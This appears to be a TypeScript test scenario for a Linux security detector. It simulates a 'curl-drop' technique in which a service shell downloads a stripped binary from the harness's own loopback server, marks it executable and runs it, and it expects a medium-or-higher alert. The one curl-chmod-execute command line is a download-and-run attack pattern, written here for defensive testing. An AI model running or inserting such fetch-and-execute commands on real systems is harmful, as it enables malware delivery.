import type { Scenario } from "../scenario.ts";

export const curlDrop: Scenario = {
  id: "curl-drop",
  analytic: "AN0056",
  platform: "linux",
  twin: false,
  does: "curl below a service's shell fetches a stripped program from this program's own server on loopback; it is run",
  purpose: "a staging app as writer is named as such",
  needs: ["setsid", "curl", "chmod"],
  expects: [{ path: "agent", atLeast: "medium", reasons: ["an0056.staging-app-wrote"] }],
  run: async (scene) => {
    const url = await scene.serve(scene.payload("stripped"));
    await scene.service(`curl -sS --noproxy '*' -o agent ${url} && chmod 755 agent && ./agent`);
  },
};
